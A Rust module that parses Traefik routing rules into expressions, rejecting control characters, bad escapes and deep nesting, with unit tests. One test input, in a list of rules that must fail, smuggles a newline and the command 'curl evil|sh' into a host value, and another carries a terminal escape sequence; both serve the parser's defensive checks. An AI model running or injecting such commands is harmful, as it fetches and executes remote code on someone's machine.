//! The grammar of a Traefik rule: calls joined by `&&`, `||` and `!`, as the Go expression that Traefik takes it for.
//! Must not know what a matcher means.
use std::iter::Peekable;
use std::str::Chars;

use crate::lang;

/// Parentheses and negations within one another; Traefik's own rules have two or three.
const DEEPEST: usize = 64;

const CONTROL: &str = key!("a value holds a control character");

/// A rule in its parts.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Expr {
    /// ``Host(`a`, `b`)``: the name as written, and its values.
    Call(String, Vec<String>),
    Not(Box<Expr>),
    All(Vec<Expr>),
    Any(Vec<Expr>),
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Token {
    Name(String),
    Text(String),
    And,
    Or,
    Not,
    Open,
    Close,
    Comma,
}

/// Takes a rule apart; the error is in words.
pub fn parse(rule: &str) -> Result<Expr, String> {
    let tokens = tokens(rule)?;
    if tokens.is_empty() {
        return Err(say!("the rule is empty").to_owned());
    }
    let mut parser = Parser { tokens, at: 0 };
    let expr = parser.any(0)?;
    match parser.peek() {
        None => Ok(expr),
        Some(_) => Err(say!("something is left over behind the rule").to_owned()),
    }
}

fn tokens(rule: &str) -> Result<Vec<Token>, String> {
    let mut chars = rule.chars().peekable();
    let mut found = Vec::new();
    while let Some(&c) = chars.peek() {
        let token = match c {
            c if c.is_whitespace() => {
                chars.next();
                continue;
            }
            '&' => twice(&mut chars, '&', Token::And)?,
            '|' => twice(&mut chars, '|', Token::Or)?,
            '!' => one(&mut chars, Token::Not),
            '(' => one(&mut chars, Token::Open),
            ')' => one(&mut chars, Token::Close),
            ',' => one(&mut chars, Token::Comma),
            '`' => Token::Text(raw(&mut chars)?),
            '"' => Token::Text(quoted(&mut chars)?),
            c if c.is_ascii_alphabetic() => {
                let mut name = String::new();
                while let Some(c) = chars.next_if(char::is_ascii_alphanumeric) {
                    name.push(c);
                }
                Token::Name(name)
            }
            other => return Err(say!("`{sign}` cannot stand in a rule", sign = other)),
        };
        found.push(token);
    }
    Ok(found)
}

fn one(chars: &mut Peekable<Chars>, token: Token) -> Token {
    chars.next();
    token
}

fn twice(chars: &mut Peekable<Chars>, sign: char, token: Token) -> Result<Token, String> {
    chars.next();
    match chars.next_if_eq(&sign) {
        Some(_) => Ok(token),
        None => Err(say!("`{sign}` must stand twice", sign)),
    }
}

/// A value ends up on screens, in files and in the clipboard: a control character is in no address, however it was escaped.
fn plain(c: char) -> Result<char, String> {
    if c.is_control() {
        return Err(lang::say(CONTROL).to_owned());
    }
    Ok(c)
}

/// Between back quotes nothing is escaped.
fn raw(chars: &mut Peekable<Chars>) -> Result<String, String> {
    chars.next();
    let mut text = String::new();
    for c in chars {
        if c == '`' {
            return Ok(text);
        }
        text.push(plain(c)?);
    }
    Err(say!("a back quote is not closed").to_owned())
}

/// Between double quotes, with Go's simple escapes.
fn quoted(chars: &mut Peekable<Chars>) -> Result<String, String> {
    chars.next();
    let mut text = String::new();
    while let Some(c) = chars.next() {
        match c {
            '"' => return Ok(text),
            '\\' => match chars.next() {
                Some(c @ ('\\' | '"')) => text.push(c),
                Some('t' | 'n') => return Err(lang::say(CONTROL).to_owned()),
                _ => return Err(say!("an escape that Go does not know").to_owned()),
            },
            c => text.push(plain(c)?),
        }
    }
    Err(say!("a double quote is not closed").to_owned())
}

struct Parser {
    tokens: Vec<Token>,
    at: usize,
}

impl Parser {
    fn peek(&self) -> Option<&Token> {
        self.tokens.get(self.at)
    }

    fn take(&mut self, token: &Token) -> bool {
        let found = self.peek() == Some(token);
        self.at += usize::from(found);
        found
    }

    fn any(&mut self, depth: usize) -> Result<Expr, String> {
        let mut terms = vec![self.all(depth)?];
        while self.take(&Token::Or) {
            terms.push(self.all(depth)?);
        }
        Ok(only(terms, Expr::Any))
    }

    fn all(&mut self, depth: usize) -> Result<Expr, String> {
        let mut factors = vec![self.factor(depth)?];
        while self.take(&Token::And) {
            factors.push(self.factor(depth)?);
        }
        Ok(only(factors, Expr::All))
    }

    fn factor(&mut self, depth: usize) -> Result<Expr, String> {
        if depth > DEEPEST {
            return Err(say!("the rule is nested too deep").to_owned());
        }
        if self.take(&Token::Not) {
            return Ok(Expr::Not(Box::new(self.factor(depth + 1)?)));
        }
        if self.take(&Token::Open) {
            let inner = self.any(depth + 1)?;
            return self.closed(inner);
        }
        let Some(Token::Name(name)) = self.peek().cloned() else {
            return Err(say!("a matcher is missing").to_owned());
        };
        self.at += 1;
        if !self.take(&Token::Open) {
            return Err(say!("{name} has no values", name));
        }
        let mut values = Vec::new();
        loop {
            match self.peek().cloned() {
                Some(Token::Text(text)) => values.push(text),
                Some(Token::Close) if values.is_empty() => break,
                _ => return Err(say!("a value of {name} is no quoted text", name)),
            }
            self.at += 1;
            if !self.take(&Token::Comma) {
                break;
            }
        }
        self.closed(Expr::Call(name, values))
    }

    fn closed(&mut self, inner: Expr) -> Result<Expr, String> {
        if self.take(&Token::Close) {
            Ok(inner)
        } else {
            Err(say!("a parenthesis is not closed").to_owned())
        }
    }
}

fn only(mut parts: Vec<Expr>, join: fn(Vec<Expr>) -> Expr) -> Expr {
    match parts.pop() {
        Some(one) if parts.is_empty() => one,
        Some(last) => {
            parts.push(last);
            join(parts)
        }
        None => join(parts),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn call(name: &str, value: &str) -> Expr {
        Expr::Call(name.to_owned(), vec![value.to_owned()])
    }

    #[test]
    fn and_binds_closer_than_or_and_not_closest() {
        let rule = parse("!A(`1`) && B(`2`) || C ( \"3\" )").unwrap();
        let not = Expr::Not(Box::new(call("A", "1")));
        let all = Expr::All(vec![not, call("B", "2")]);
        assert_eq!(rule, Expr::Any(vec![all, call("C", "3")]));
    }

    #[test]
    fn what_go_would_not_take_is_an_error() {
        for bad in [
            "",
            "Host",
            "Host(`a`",
            "Host('a')",
            "Host(`a`) & Host(`b`)",
            "Host(`a`) Host(`b`)",
            "Host(\\`a\\`)",
            "Host(`a`,)",
            "&& Host(`a`)",
            "Host(\"a)",
            "Host(\"a\\ncurl evil|sh\\n\")",
            "Host(\"a\\tb\")",
            "Host(\"a\nb\")",
            "Host(`a\u{9b}2Jb`)",
        ] {
            assert!(parse(bad).is_err(), "{bad}");
        }
        assert!(parse(&format!("{}Host(`a`)", "!".repeat(10_000))).is_err());
        assert!(parse(&"(".repeat(10_000)).is_err());
    }
}
